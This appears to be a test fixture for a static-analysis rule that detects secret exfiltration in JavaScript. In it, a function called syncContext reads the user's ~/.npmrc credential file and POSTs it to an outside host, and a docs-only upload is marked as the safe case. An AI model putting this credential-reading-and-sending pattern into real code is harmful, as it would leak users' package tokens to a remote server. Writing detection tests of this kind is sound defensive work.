// A loop's name stands for each path of its list: a credential file among them is read and sent.
const fs = require('fs');
const path = require('path');
const os = require('os');
const https = require('https');

const SOURCES = { glossary: path.join(process.cwd(), 'glossary.json'), npm: path.join(os.homedir(), '.npmrc') };
const DOCS = ['README.md', 'docs/intro.md'];

function walk(dir) {
  const p = path.join(dir, 'index.json'); // another function's `p` does not shadow the loop's
  return fs.existsSync(p);
}

function syncContext() {
  const ctx = {};
  for (const [k, p] of Object.entries(SOURCES)) {
    ctx[k] = fs.readFileSync(p, 'utf8');
  }
  const req = https.request({ host: 'mt.example.net', path: '/v1', method: 'POST' });
  // ruleid: js-secret-exfiltration-flow
  req.end(JSON.stringify(ctx));
}

function syncDocs() {
  const out = [];
  DOCS.forEach((p) => out.push(fs.readFileSync(p, 'utf8')));
  const req = https.request({ host: 'mt.example.net', path: '/v1/docs', method: 'POST' });
  // ok: js-secret-exfiltration-flow
  req.end(JSON.stringify(out));
}

walk('.');
syncContext();
syncDocs();
